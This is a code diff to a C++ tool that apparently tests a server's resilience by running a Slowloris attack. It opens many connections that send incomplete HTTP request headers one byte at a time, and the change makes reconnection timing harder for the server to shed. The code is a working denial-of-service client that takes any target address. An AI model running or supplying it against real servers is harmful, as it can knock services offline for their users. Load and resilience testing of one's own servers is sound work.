@@ -65,9 +65,13 @@ static int serve(std::size_t max_connections) {
   return 0;
 }
 
-/// One connection that never finishes its head. When the server ends it, it comes back after five seconds.
+/// One connection that never finishes its head. When the server ends it at its deadline, it comes back at
+/// once; when it was turned away, after five seconds.
 class Slowloris {
  public:
+  /// Begins after up to five seconds, as the number says: not all of them end together.
+  explicit Slowloris(std::size_t number) : rest_(static_cast<int>(number / 100 % 5)) {}
+
   /// Goes on for a second. True when it is held; counts in `opened`.
   bool go_on(const sockaddr_in& server, std::size_t number, std::uint64_t& opened) {
     if (fd_ < 0 && ++rest_ >= 5) open(server, number, opened);
@@ -78,10 +82,13 @@ class Slowloris {
     const std::string_view next = begun_ ? "a" : "GET /metrics HTTP/1.1\r\nHost: a\r\nX-Header: ";
     const ssize_t sent = !open ? -1 : ::send(fd_, next.data(), next.size(), MSG_NOSIGNAL | MSG_DONTWAIT);
     begun_ = begun_ || sent > 0;
-    if (sent > 0 || (open && errno == EAGAIN)) return true;
+    if (sent > 0 || (open && errno == EAGAIN)) {
+      ++age_;
+      return true;
+    }
     ::close(fd_);
     fd_ = -1;
-    rest_ = 0;
+    rest_ = age_ >= 4 ? 5 : 0;
     return false;
   }
 
@@ -95,6 +102,7 @@ class Slowloris {
     ::bind(fd_, reinterpret_cast<const sockaddr*>(&own), sizeof own);
     const int connected = ::connect(fd_, reinterpret_cast<const sockaddr*>(&server), sizeof server);
     begun_ = false;
+    age_ = 0;
     if (connected != 0 && errno != EINPROGRESS) {
       ::close(fd_);
       fd_ = -1;
@@ -106,7 +114,8 @@ class Slowloris {
 
   int fd_ = -1;
   bool begun_ = false;
-  int rest_ = 5;  // seconds since the server ended it
+  int age_ = 0;  // seconds that it is open
+  int rest_;     // seconds that it is closed; five are enough
 };
 
 static int attack(const std::string& address, std::size_t count) {
@@ -115,7 +124,8 @@ static int attack(const std::string& address, std::size_t count) {
   server.sin_family = AF_INET;
   server.sin_port = htons(static_cast<std::uint16_t>(std::atoi(address.c_str() + colon + 1)));
   ::inet_pton(AF_INET, address.substr(0, colon).c_str(), &server.sin_addr);
-  std::vector<Slowloris> connections(count);
+  std::vector<Slowloris> connections;
+  for (std::size_t i = 0; i < count; ++i) connections.emplace_back(i);
   std::uint64_t opened = 0;
   while (!input_ended()) {
     // A second in a hundred steps: the load is spread evenly.
